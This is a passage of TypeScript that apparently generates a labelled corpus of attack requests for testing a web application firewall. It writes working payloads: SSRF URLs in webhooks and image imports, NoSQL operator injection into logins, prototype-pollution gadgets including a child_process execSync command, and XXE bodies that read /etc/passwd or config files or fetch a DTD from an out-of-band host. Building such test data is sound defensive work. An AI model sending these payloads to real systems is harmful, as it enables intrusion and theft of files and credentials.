  const url = SSRF_EVASIONS[evasion]!(SSRF_TARGETS[family]!())
  const where = pick(['graphql-webhook', 'graphql-var', 'json', 'json', 'query', 'graphql-import'])
  if (where === 'graphql-webhook') {
    const q = `mutation {\n  webhookSubscriptionCreate(topic: ORDERS_CREATE, webhookSubscription: { callbackUrl: ${gqlString(url, 'plain')}, format: JSON }) {\n    webhookSubscription { id }\n    userErrors { field message }\n  }\n}`
    add('ssrf', family, 'graphql-arg', `${evasion}+webhook`, url, graphqlRequest('graphql-arg', q))
  } else if (where === 'graphql-import') {
    const q = `mutation productCreateMedia($media: [CreateMediaInput!]!, $productId: ID!) { productCreateMedia(media: $media, productId: $productId) { media { alt } mediaUserErrors { message } } }`
    add('ssrf', family, 'graphql-var', `${evasion}+media-import`, url, graphqlRequest('graphql-var', q, { productId: gid('Product'), media: [{ originalSource: url, alt: 'front', mediaContentType: 'IMAGE' }] }))
  } else if (where === 'graphql-var') {
    const q = `mutation UpdateProfile($input: CustomerUpdateInput!) { customerUpdate(input: $input) { customer { id avatarUrl } } }`
    add('ssrf', family, 'graphql-var', `${evasion}+avatar`, url, graphqlRequest('graphql-var', q, { input: { firstName: 'Jane', avatarUrl: url } }))
  } else if (where === 'json') {
    const field = pick(TEXT_FIELDS.ssrf!)
    const doc = pick([
      { webhook: { topic: 'orders/create', address: url, format: 'json' } },
      { import: { type: 'product_feed', [field]: url, schedule: 'daily' } },
      { pdf: { template: 'invoice', [field]: url } },
      { product: { title: 'Tee', images: [{ src: url, alt: 'front' }] } },
      { integration: { name: 'erp', endpoints: { orders: url } } },
    ])
    add('ssrf', family, 'json-deep', `${evasion}+plain`, url, { method: 'POST', uri: pick(['/api/webhooks', '/api/v1/imports', '/api/products', '/api/integrations', '/api/documents/render']), headers: headers('json'), body: JSON.stringify(doc) })
  } else {
    add('ssrf', family, 'query', `${evasion}+percent`, url, { method: 'GET', uri: `${pick(['/api/image-proxy', '/api/unfurl', '/api/og-preview', '/api/fetch-feed'])}?${pick(['url', 'src', 'target', 'feed'])}=${encodeURIComponent(url)}&w=${pick(['300', '600', '1200'])}`, headers: headers('get') })
  }
}

/** NoSQL: operator objects where a string was expected, in JSON, GraphQL JSON scalars and query brackets. */
function nosql(): void {
  if (rand() < 0.2) {
    const family = 'nosql-js-string'
    const p = NOSQL_STRINGS[family]!()
    placeText('nosqli', family, p, 'plain', ['json', 'graphql', 'query'])
    return
  }
  const family = pick(Object.keys(NOSQL_OBJECTS))
  const op = NOSQL_OBJECTS[family]!()
  const payload = JSON.stringify(op)
  const field = pick(['email', 'password', 'username', 'token', 'resetCode', 'couponCode', 'orderId'])
  const where = pick(['json-login', 'json-filter', 'json-deep', 'graphql-json-scalar', 'graphql-string-json', 'query-brackets', 'json-escaped-key'])
  switch (where) {
    case 'json-login':
      add('nosqli', family, 'json-leaf', 'operator-object', payload, { method: 'POST', uri: pick(['/api/auth/login', '/api/customers/login', '/api/v1/session', '/api/password/reset/verify']), headers: headers('json'), body: JSON.stringify({ email: rand() < 0.5 ? 'admin@shop.example' : op, [field === 'email' ? 'password' : field]: op }) })
      return
    case 'json-filter':
      add('nosqli', family, 'json-leaf', 'operator-object', payload, { method: 'POST', uri: pick(['/api/products/search', '/api/orders/find', '/api/v1/coupons/validate']), headers: headers('json'), body: JSON.stringify({ filter: { [field]: op }, limit: 20 }) })
      return
    case 'json-deep':
      add('nosqli', family, 'json-deep', 'operator-object', payload, { method: 'POST', uri: '/api/orders/lookup', headers: headers('json'), body: JSON.stringify({ query: { customer: { contact: { [field]: op } } }, options: { projection: { _id: 1 } } }) })
      return
    case 'graphql-json-scalar': {
      const q = `query Orders($where: JSON!) { orders(where: $where, first: 20) { nodes { id total } } }`
      add('nosqli', family, 'graphql-var', 'operator-object', payload, graphqlRequest('graphql-var', q, { where: { [field]: op } }))
      return
    }
    case 'graphql-string-json': {
      // A resolver that JSON.parses a String argument.
      const q = `query { orders(filter: ${JSON.stringify(JSON.stringify({ [field]: op }))}) { id } }`
      add('nosqli', family, 'graphql-arg', 'json-in-string', payload, graphqlRequest('graphql-arg', q))
      return
    }
    case 'query-brackets': {
      const [k, v] = Object.entries(op as Record<string, unknown>)[0]!
      const val = typeof v === 'object' ? JSON.stringify(v) : String(v)
      add('nosqli', family, 'query', 'brackets', payload, { method: 'GET', uri: `/api/customers/login?${field}[${k}]=${encodeURIComponent(val)}&password[$ne]=x`, headers: headers('get') })
      return
    }
    case 'json-escaped-key': {
      const body = JSON.stringify({ [field]: op }).replace(/"\$([a-z]+)"/g, (_, k: string) => `"\\u0024${k}"`)
      add('nosqli', family, 'json-key', 'unicode-escape', payload, { method: 'POST', uri: '/api/auth/login', headers: headers('json'), body })
      return
    }
  }
}

/** Prototype pollution through JSON keys, query brackets and dotted paths (mass assignment into Object.prototype). */
function protoPollution(): void {
  const gadget = pick([{ isAdmin: true }, { role: 'admin' }, { shell: '/proc/self/exe', NODE_OPTIONS: '--require /proc/self/environ' }, { outputFunctionName: "x;process.mainModule.require('child_process').execSync('id');x" }, { allowedTags: ['script'] }, { json_spaces: 10 }, { status: 555 }])
  const key = Object.keys(gadget)[0]!
  const val = JSON.stringify((gadget as Record<string, unknown>)[key])
  const form = pick(['json-proto', 'json-constructor', 'json-deep-proto', 'json-escaped', 'query-proto', 'query-constructor', 'query-dotted', 'graphql-var'])
  const payload = form.includes('constructor') ? `constructor.prototype.${key}` : `__proto__.${key}`
  const ep = pick(['/api/account/preferences', '/api/cart/attributes', '/api/v1/users/me', '/api/settings', '/api/checkout/metadata'])
  switch (form) {
    case 'json-proto':
      add('prototype_pollution', 'proto-key', 'json-key', 'plain', payload, { method: pick(['POST', 'PATCH', 'PUT']), uri: ep, headers: headers('json'), body: `{"theme":"dark","__proto__":${JSON.stringify(gadget)}}` })
      return
    case 'json-constructor':
      add('prototype_pollution', 'constructor-prototype', 'json-key', 'plain', payload, { method: pick(['POST', 'PATCH']), uri: ep, headers: headers('json'), body: JSON.stringify({ locale: 'en', constructor: { prototype: gadget } }) })
      return
    case 'json-deep-proto':
      add('prototype_pollution', 'proto-key', 'json-deep', 'plain', payload, { method: 'POST', uri: ep, headers: headers('json'), body: `{"profile":{"address":{"billing":{"__proto__":${JSON.stringify(gadget)}}}}}` })
      return
    case 'json-escaped':
      add('prototype_pollution', 'proto-key', 'json-key', 'unicode-escape', payload, { method: 'POST', uri: ep, headers: headers('json'), body: `{"a":1,"${pick(['__pro\\u0074o__', '\\u005f\\u005fproto\\u005f\\u005f', '__proto\\u005f_'])}":${JSON.stringify(gadget)}}` })
      return
    case 'query-proto':
      add('prototype_pollution', 'proto-key', 'query', 'brackets', payload, { method: 'GET', uri: `${ep}?__proto__[${key}]=${encodeURIComponent(val.replace(/^"|"$/g, ''))}`, headers: headers('get') })
      return
    case 'query-constructor':
      add('prototype_pollution', 'constructor-prototype', 'query', 'brackets', payload, { method: 'GET', uri: `${ep}?constructor[prototype][${key}]=${encodeURIComponent(val.replace(/^"|"$/g, ''))}`, headers: headers('get') })
      return
    case 'query-dotted':
      add('prototype_pollution', 'proto-key', 'query', 'dotted', payload, { method: 'GET', uri: `${ep}?${pick(['__proto__', 'constructor.prototype'])}.${key}=${encodeURIComponent(val.replace(/^"|"$/g, ''))}`, headers: headers('get') })
      return
    case 'graphql-var': {
      const q = `mutation SavePrefs($prefs: JSON!) { customerPreferencesUpdate(preferences: $prefs) { ok } }`
      add('prototype_pollution', 'proto-key', 'graphql-var', 'plain', payload, { method: 'POST', uri: '/graphql', headers: headers('graphql'), body: `{"query":${JSON.stringify(q)},"variables":{"prefs":{"__proto__":${JSON.stringify(gadget)}}}}` })
      return
    }
  }
}

/** XXE: XML and SOAP bodies, SVG uploads, XML inside a JSON leaf, XInclude. */
function xxe(): void {
  const file = pick(['file:///etc/passwd', 'file:///etc/hostname', 'php://filter/convert.base64-encode/resource=/var/www/html/app/etc/env.php', 'file:///c:/windows/win.ini', `http://${oast()}/x`])
  const dtd = `http://${oast()}/evil.dtd`
  const family = pick(['xxe-file', 'xxe-oob', 'xxe-xinclude'])
  const decl = family === 'xxe-file' ? `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${file}">]>` : family === 'xxe-oob' ? `<!DOCTYPE r [<!ENTITY % ext SYSTEM "${dtd}"> %ext;]>` : ''
  const ref = family === 'xxe-file' ? '&xxe;' : family === 'xxe-xinclude' ? `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${file}"/>` : 'x'
  const where = pick(['soap', 'xml-order', 'xml-to-json-endpoint', 'svg-upload', 'json-leaf', 'graphql-var'])
  const enc = rand() < 0.2 ? 'utf-16' : 'plain'
  const xml = (root: string): string => `<?xml version="1.0" encoding="${enc === 'utf-16' ? 'UTF-16' : 'UTF-8'}"?>\n${decl}\n${root}`
  const soap = xml(`<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:urn="urn:Magento"><soapenv:Header/><soapenv:Body><urn:salesOrderInfo><sessionId>${hex(32)}</sessionId><orderIncrementId>${ref}</orderIncrementId></urn:salesOrderInfo></soapenv:Body></soapenv:Envelope>`)
  const order = xml(`<order><customer><email>jane@example.com</email><note>${ref}</note></customer><lines><line sku="SKU-1" qty="1"/></lines></order>`)
  const bodyFor = (text: string): Pick<WafRequest, 'body' | 'body_encoding'> => (enc === 'utf-16' ? { body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]).toString('base64'), body_encoding: 'base64' } : { body: text })
  switch (where) {
    case 'soap':
      add('xxe', family, 'xml', `soap+${enc}`, decl || ref, { method: 'POST', uri: pick(['/api/v2_soap', '/index.php/api/v2_soap/index/', '/soap/default?services=salesOrderRepositoryV1', '/ws/OrderService']), headers: headers('json', { 'content-type': pick(['text/xml; charset=utf-8', 'application/soap+xml']), soapaction: '"urn:Action"' }), ...bodyFor(soap) })
      return
    case 'xml-order':
      add('xxe', family, 'xml', `xml+${enc}`, decl || ref, { method: 'POST', uri: pick(['/api/orders/import', '/api/v1/feeds/products', '/api/b2b/orders']), headers: headers('json', { 'content-type': 'application/xml' }), ...bodyFor(order) })
      return
    case 'xml-to-json-endpoint':
      // Content-type switch: frameworks that accept XML on a JSON route (Jackson, ASP.NET) parse it.
      add('xxe', family, 'xml', 'ctype-switch', decl || ref, { method: 'POST', uri: pick(['/api/checkout', '/api/cart/items', '/api/v1/customers']), headers: headers('json', { 'content-type': pick(['application/xml', 'text/xml']) }), body: order })
      return
    case 'svg-upload': {
      const boundary = `----WebKitFormBoundary${alnum(16)}`
      const svg = `<?xml version="1.0" standalone="yes"?>${decl}<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">${ref}</text></svg>`
      add('xxe', family, 'multipart', 'svg', decl || ref, { method: 'POST', uri: pick(['/api/uploads/avatar', '/api/products/media', '/api/customizer/artwork']), headers: headers('json', { 'content-type': `multipart/form-data; boundary=${boundary}` }), body: `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="logo.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${svg}\r\n--${boundary}--\r\n` })
      return
    }
    case 'json-leaf':
      add('xxe', family, 'json-leaf', 'xml-in-json', decl || ref, { method: 'POST', uri: pick(['/api/import/xml', '/rest/V1/integration/feed', '/api/v1/invoices/einvoice']), headers: headers('json'), body: JSON.stringify({ format: 'xml', document: order }) })
      return
    case 'graphql-var': {
      const q = 'mutation Import($xml: String!) { catalogImport(xml: $xml) { jobId } }'
      add('xxe', family, 'graphql-var', 'xml-in-variable', decl || ref, graphqlRequest('graphql-var', q, { xml: order }))
      return
    }
  }
}

const SHAPES: ReadonlyArray<readonly [number, () => void]> = [
  [26, textAttack('sqli', SQLI, SQL_EVASIONS, ['graphql', 'graphql', 'json', 'json', 'path', 'query', 'header'])],
  [12, nosql],
  [12, ssrf],
  [9, textAttack('ssti', SSTI, SSTI_EVASIONS, ['graphql', 'json', 'json'])],
  [7, textAttack('xss', XSS, XSS_EVASIONS, ['graphql', 'json', 'json', 'query'])],
  [6, xxe],
  [7, protoPollution],
  [5, textAttack('rce', RCE, PLAIN, ['graphql', 'json', 'json', 'query'])],
  [5, textAttack('path_traversal', TRAVERSAL, PLAIN, ['json', 'json', 'path', 'query', 'header', 'graphql'])],
  [6, textAttack('jndi', JNDI, PLAIN, ['header', 'header', 'json', 'graphql', 'path'])],
  [2, textAttack('ldapi', LDAP, PLAIN, ['json', 'graphql', 'query'])],
]

drawWeighted(SHAPES, () => out.length >= COUNT)

writeFileSync(new URL('./api-attacks.ndjson', import.meta.url), `${out.map((r) => JSON.stringify(r)).join('\n')}\n`)
console.log(`wrote ${out.length} requests`)
